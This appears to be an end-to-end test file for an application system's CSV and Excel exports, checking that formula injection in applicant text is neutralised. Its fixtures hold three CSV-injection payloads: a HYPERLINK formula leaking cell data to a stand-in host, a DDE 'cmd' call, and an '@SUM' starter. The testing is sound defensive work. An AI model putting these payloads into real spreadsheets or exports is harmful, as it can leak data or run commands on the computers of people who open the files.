import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { DataSource } from 'typeorm';
import type { Round } from '../src/modules/rounds/round.entity';
import { runSeed } from '../src/seed/seed-runner';
import { referenceCatalogueSeed } from '../src/seed/reference-catalogue.seed';
import { openRound } from './application-fixtures';
import { LoggedIn, loginEveryRole, seedStaff } from './auth-helpers';
import { startTestApp, TestApp } from './harness';
import { createChannel, uploadRequired, validPayload } from './intake-fixtures';

const NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"株式会社さくら")';
const PLAN = "+cmd|' /C calc'!A0";
const ADVISOR = '@SUM(1+1)*cmd';

/**
 * Applicant-written text reaches the managers' spreadsheets through the exports: in CSV a cell that would
 * start a formula is written with a leading apostrophe; in Excel it is a text cell, never a formula.
 */
describe('exports and spreadsheet formulas (CSV injection)', () => {
  let t: TestApp;
  let db: DataSource;
  let s: Record<'admin' | 'manager' | 'reviewer' | 'auditor', LoggedIn>;
  let round: Round;
  const download = (format: 'csv' | 'xlsx') =>
    t
      .http()
      .get(`/api/rounds/${round.id}/exports/adopted`)
      .query({ format })
      .set('Authorization', `Bearer ${s.manager.token}`)
      .buffer(true)
      .parse((res, cb) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => cb(null, Buffer.concat(chunks)));
      })
      .expect(200);

  beforeAll(async () => {
    t = await startTestApp({ label: 'csv_injection' });
    db = t.app.get(DataSource);
    await seedStaff(t);
    await runSeed(db, { demo: false, steps: [referenceCatalogueSeed] });
    s = await loginEveryRole(t);
    round = await openRound(t);
    const { apiKey } = await createChannel(t, s.admin.token);
    const payload = validPayload(round, await uploadRequired(t, apiKey), {
      plan: { title: PLAN, summary: '概要' },
      certifiedAdvisor: { name: ADVISOR, id: '106213000000' },
    });
    const res = await t
      .http()
      .post('/api/intake/applications')
      .set('X-Api-Key', apiKey)
      .set('Idempotency-Key', 'csv-injection-1')
      .send({ ...payload, applicant: { ...payload.applicant, name: NAME } })
      .expect(201);
    // the export lists adopted applications; how one gets adopted is covered by review-round.e2e.ts
    await db.query(`UPDATE application SET status = 'adopted' WHERE id = $1`, [res.body.id]);
  });
  afterAll(() => t?.close());

  it('writes an applicant named =HYPERLINK(…) as text in the CSV, with the other formula starters', async () => {
    const csv = await download('csv');
    const rows: string[][] = parse((csv.body as Buffer).toString('utf8'), { bom: true });
    expect(rows[1][1]).toBe(`'${NAME}`);
    expect(rows[1][4]).toBe(`'${PLAN}`);
    expect(rows[1][5]).toBe(`'${ADVISOR}`);
    expect(rows[1][0]).toMatch(/^RES\d+-\d{8}$/); // ordinary cells unchanged
  });

  it('keeps the text exact in Excel, as string cells that are never formulas', async () => {
    const xlsx = await download('xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.body as unknown as ArrayBuffer);
    const row = book.worksheets[0].getRow(2);
    for (const [col, text] of [
      [2, NAME],
      [5, PLAN],
      [6, ADVISOR],
    ] as const) {
      const cell = row.getCell(col);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(text);
    }
  });
});
